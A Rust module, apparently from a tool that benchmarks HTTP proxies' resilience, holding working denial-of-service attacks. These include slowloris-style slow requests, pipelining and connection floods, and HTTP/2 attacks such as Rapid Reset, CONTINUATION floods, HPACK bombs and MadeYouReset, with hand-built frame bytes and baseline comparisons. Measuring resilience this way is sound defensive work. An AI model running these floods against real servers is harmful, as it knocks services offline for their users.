//! The attacks, each a loop over bytes until its time is up.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::client::{LARGE, own_processor_us};
use super::harm::Sent;
use super::line::{Line, keep};

/// One way to make a proxy work or hold more than the attacker does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// None: what a good client's figures vary by, over HTTP/1 and over HTTP/2.
    Nothing,
    NothingOverHttp2,
    /// Many heads that arrive a field at a time.
    SlowHead,
    /// Many bodies that arrive a byte at a time.
    SlowBody,
    /// Heads of many long fields.
    HugeHeads,
    /// Requests without end on one connection whose answers nobody reads.
    Pipelining,
    /// One byte of body in each long chunk line.
    ChunkExtensions,
    /// Connections that are opened and left.
    ConnectionFlood,
    /// CVE-2023-44487: requests that are reset at once.
    RapidReset,
    /// CVE-2024-27316 and its kind: a header block that does not end.
    Continuation,
    /// A small block of references to a large entry of the dynamic table.
    HpackBomb,
    /// CVE-2019-9512 and CVE-2019-9515: frames that must be answered.
    PingFlood,
    SettingsFlood,
    /// CVE-2019-9517: answers that may not be sent.
    ZeroWindow,
    /// CVE-2019-9518: DATA without data.
    EmptyFrames,
    /// Large responses that nobody reads.
    SlowReader,
    /// Many header blocks that are begun and left (HTTP/2's slow head).
    SlowHeaders,
    /// CVE-2019-9511: windows that grow by a byte.
    WindowDrip,
    /// CVE-2025-8671: mistakes that make the server reset streams.
    MadeYouReset,
    /// CVE-2019-9513: priorities that change for ever.
    PriorityFlood,
}

pub(super) const ATTACKS: [Attack; 20] = [
    Attack::Nothing,
    Attack::NothingOverHttp2,
    Attack::SlowHead,
    Attack::SlowBody,
    Attack::HugeHeads,
    Attack::Pipelining,
    Attack::ChunkExtensions,
    Attack::ConnectionFlood,
    Attack::RapidReset,
    Attack::Continuation,
    Attack::HpackBomb,
    Attack::PingFlood,
    Attack::SettingsFlood,
    Attack::ZeroWindow,
    Attack::EmptyFrames,
    Attack::SlowReader,
    Attack::SlowHeaders,
    Attack::WindowDrip,
    Attack::MadeYouReset,
    Attack::PriorityFlood,
];

/// The smallest request of HTTP/1.1.
pub(super) const PIPELINED: &[u8] = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n";
/// Streams on each connection of [`Attack::WindowDrip`].
const DRIPPING: u32 = 100;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// GET, http, /, authority `x`, from the static table where it has them (RFC 7541 appendix A).
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'x'];
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

impl Attack {
    pub(super) fn named(name: &str) -> Option<Self> {
        ATTACKS.into_iter().find(|attack| attack.name() == name)
    }

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Nothing => "nothing",
            Self::NothingOverHttp2 => "nothing-http2",
            Self::SlowHead => "slow-head",
            Self::SlowBody => "slow-body",
            Self::HugeHeads => "huge-heads",
            Self::Pipelining => "pipelining",
            Self::ChunkExtensions => "chunk-extensions",
            Self::ConnectionFlood => "connection-flood",
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::HpackBomb => "hpack-bomb",
            Self::PingFlood => "ping-flood",
            Self::SettingsFlood => "settings-flood",
            Self::ZeroWindow => "zero-window",
            Self::EmptyFrames => "empty-frames",
            Self::SlowReader => "slow-reader",
            Self::SlowHeaders => "slow-headers",
            Self::WindowDrip => "window-drip",
            Self::MadeYouReset => "made-you-reset",
            Self::PriorityFlood => "priority-flood",
        }
    }

    pub(super) const fn is_http2(self) -> bool {
        !matches!(
            self,
            Self::Nothing
                | Self::SlowHead
                | Self::SlowBody
                | Self::HugeHeads
                | Self::Pipelining
                | Self::ChunkExtensions
                | Self::ConnectionFlood
                | Self::SlowReader
        )
    }

    /// Whether nobody attacks.
    pub(super) const fn is_nothing(self) -> bool {
        matches!(self, Self::Nothing | Self::NothingOverHttp2)
    }

    /// How many streams each of its connections keeps open.
    pub(super) const fn streams(self) -> u32 {
        if matches!(self, Self::WindowDrip) { DRIPPING } else { 0 }
    }

    /// Where the answers are what floods, they stay unread.
    const fn reads(self) -> bool {
        !matches!(self, Self::Pipelining | Self::PingFlood | Self::SettingsFlood)
    }

    fn opening(self) -> Vec<u8> {
        match self {
            Self::ChunkExtensions => {
                b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec()
            }
            _ if !self.is_http2() => Vec::new(),
            Self::ZeroWindow => {
                // SETTINGS_INITIAL_WINDOW_SIZE = 0
                [PREFACE, &frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])].concat()
            }
            Self::Continuation => [PREFACE, &frame(4, 0, 0, &[]), &frame(1, 0, 1, GET)].concat(),
            Self::EmptyFrames => {
                [PREFACE, &frame(4, 0, 0, &[]), &frame(1, END_HEADERS, 1, POST)].concat()
            }
            _ => opening(),
        }
    }

    /// About 16 KiB of attack.
    fn wave(self, next_id: &mut u32) -> Vec<u8> {
        let mut id = || {
            *next_id += 2;
            *next_id - 2
        };
        match self {
            Self::HugeHeads => {
                let field = format!("X-Long: {}\r\n", "x".repeat(500));
                format!("GET / HTTP/1.1\r\nHost: x\r\n{}\r\n", field.repeat(90)).into_bytes()
            }
            Self::Pipelining => PIPELINED.repeat(500),
            Self::ChunkExtensions => {
                format!("1;{}\r\nx\r\n", "e".repeat(200)).repeat(70).into_bytes()
            }
            Self::RapidReset => (0..300)
                .flat_map(|_| {
                    let id = id();
                    let request = frame(1, END_STREAM | END_HEADERS, id, GET);
                    [request, frame(3, 0, id, &[0, 0, 0, 8])].concat()
                })
                .collect(),
            Self::Continuation => frame(9, 0, 1, &[0x00, 1, b'a', 1, b'b'].repeat(20)).repeat(150),
            Self::HpackBomb => {
                // One entry of 4000 bytes goes into the table, and a thousand references follow.
                let mut block = GET.to_vec();
                block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
                block.extend_from_slice(&[b'v'; 4000]);
                block.extend_from_slice(&[0xbe; 1000]);
                frame(1, END_STREAM | END_HEADERS, id(), &block).repeat(1)
            }
            Self::PingFlood => frame(6, 0, 0, &[0; 8]).repeat(900),
            Self::SettingsFlood => frame(4, 0, 0, &[]).repeat(1500),
            Self::ZeroWindow => {
                (0..100).flat_map(|_| frame(1, END_STREAM | END_HEADERS, id(), GET)).collect()
            }
            Self::EmptyFrames => frame(0, 0, 1, &[]).repeat(1500),
            Self::MadeYouReset => (0..300)
                .flat_map(|_| {
                    let id = id();
                    let request = frame(1, END_STREAM | END_HEADERS, id, GET);
                    // An increment of nothing (RFC 9113 §6.9) costs the stream.
                    [request, frame(8, 0, id, &[0; 4])].concat()
                })
                .collect(),
            Self::PriorityFlood => frame(2, 0, 1, &[0, 0, 0, 3, 7]).repeat(1000),
            Self::Nothing
            | Self::NothingOverHttp2
            | Self::SlowHead
            | Self::SlowBody
            | Self::ConnectionFlood
            | Self::SlowReader
            | Self::SlowHeaders
            | Self::WindowDrip => Vec::new(),
        }
    }
}

/// Attacks until the time is up, with a new connection wherever the old one was closed.
pub(super) fn attack(attack: Attack, address: SocketAddr, time: Duration) -> Result<Sent> {
    let end = Instant::now() + time;
    let mut sent = Sent::default();
    let to = (address, end);
    match attack {
        Attack::Nothing | Attack::NothingOverHttp2 => std::thread::sleep(time),
        Attack::SlowHead => {
            keep(to, &mut sent, b"GET / HTTP/1.1\r\nHost: x\r\n", |_| b"A: b\r\n".to_vec());
        }
        Attack::SlowBody => {
            let head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n";
            keep(to, &mut sent, head, |_| b"x".to_vec());
        }
        Attack::SlowReader => {
            let head = format!("GET {LARGE} HTTP/1.1\r\nHost: x\r\n\r\n");
            keep(to, &mut sent, head.as_bytes(), |_| Vec::new());
        }
        Attack::SlowHeaders => {
            let begun = [&opening()[..], &frame(1, 0, 1, GET)].concat();
            keep(to, &mut sent, &begun, |_| frame(9, 0, 1, &[0x00, 1, b'a', 1, b'b']));
        }
        Attack::WindowDrip => {
            let settings = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
            let requests =
                (0..DRIPPING).flat_map(|at| frame(1, END_STREAM | END_HEADERS, 2 * at + 1, GET));
            let begun = [PREFACE, &settings, &requests.collect::<Vec<_>>()].concat();
            keep(to, &mut sent, &begun, |turn| {
                frame(8, 0, 2 * (turn % DRIPPING) + 1, &[0, 0, 0, 1])
            });
        }
        Attack::ConnectionFlood => {
            let mut held = Vec::new();
            while Instant::now() < end {
                held.extend(Line::open(address, &mut sent));
                sent.open = sent.open.max(held.len() as u64);
                if held.len() >= 2000 {
                    held.clear();
                }
            }
        }
        _ => flood(attack, to, &mut sent),
    }
    sent.processor_us = own_processor_us()?;
    Ok(sent)
}

/// One connection after another: what opens it, then the same bytes again and again.
fn flood(attack: Attack, (address, end): (SocketAddr, Instant), sent: &mut Sent) {
    sent.open = 1;
    while Instant::now() < end {
        let Some(mut line) = Line::open(address, sent) else { continue };
        let mut next_id = 1;
        if line.write(&attack.opening(), sent).is_err() {
            continue;
        }
        while Instant::now() < end {
            let bytes = attack.wave(&mut next_id);
            if line.write(&bytes, sent).is_err() || attack.reads() && line.is_closed() {
                break;
            }
        }
    }
}

/// What HTTP/2 begins with.
pub(super) fn opening() -> Vec<u8> {
    [PREFACE, &frame(4, 0, 0, &[])].concat()
}

/// Lets the other side send all it has.
pub(super) fn wide_window() -> Vec<u8> {
    frame(8, 0, 0, &[0x3f, 0xff, 0, 0])
}

/// A request on this stream.
pub(super) fn request(id: u32) -> Vec<u8> {
    frame(1, END_STREAM | END_HEADERS, id, GET)
}

/// What a good client sends.
pub(super) fn one_request() -> Vec<u8> {
    [opening(), request(1)].concat()
}

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

#[cfg(test)]
mod tests {
    use super::{ATTACKS, Attack, frame};

    #[test]
    fn a_frame_has_nine_bytes_before_its_payload() {
        assert_eq!(frame(6, 1, 3, b"ab"), [0, 0, 2, 6, 1, 0, 0, 0, 3, b'a', b'b']);
    }

    #[test]
    fn every_attack_has_a_name_of_its_own() {
        for attack in ATTACKS {
            assert_eq!(Attack::named(attack.name()), Some(attack));
        }
    }
}
